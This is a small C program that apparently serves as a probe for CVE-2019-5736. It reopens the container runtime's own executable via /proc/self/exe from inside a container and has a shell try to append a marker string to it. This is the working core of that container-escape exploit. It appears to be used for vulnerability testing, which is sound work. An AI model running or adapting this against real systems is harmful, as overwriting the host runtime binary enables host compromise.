// In the place of a rootfs's loader: it runs as whatever program of the machine is executed there. Holds
// that program's file on 9 and becomes the shell of the rootfs, which tries to write it (CVE-2019-5736).
#include <sys/syscall.h>

static long call(long number, long a, long b, long c, long d) {
#if defined(__x86_64__)
  long result;
  register long fourth __asm__("r10") = d;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "a"(number), "D"(a), "S"(b), "d"(c), "r"(fourth)
                   : "rcx", "r11", "memory");
  return result;
#elif defined(__aarch64__)
  register long x8 __asm__("x8") = number;
  register long x0 __asm__("x0") = a;
  register long x1 __asm__("x1") = b;
  register long x2 __asm__("x2") = c;
  register long x3 __asm__("x3") = d;
  __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3) : "memory");
  return x0;
#endif
}

void _start(void) {
  static char *argv[] = {"sh", "-c",
                         "n=0; while [ $n -lt 100 ]; do\n"
                         "  { echo WRITTEN >>/proc/self/fd/9; } 2>/dev/null && { echo wrote; exit; }\n"
                         "  n=$((n + 1)); sleep 0.01\n"
                         "done; echo could not write",
                         0};
  static char *env[] = {"PATH=/bin", 0};
  long file = call(SYS_openat, -100, (long)"/proc/self/exe", 0, 0);
  call(SYS_dup3, file, 9, 0, 0);
  call(SYS_execve, (long)"/bin/sh", (long)argv, (long)env, 0);
  call(SYS_exit, 3, 0, 0, 0);
}
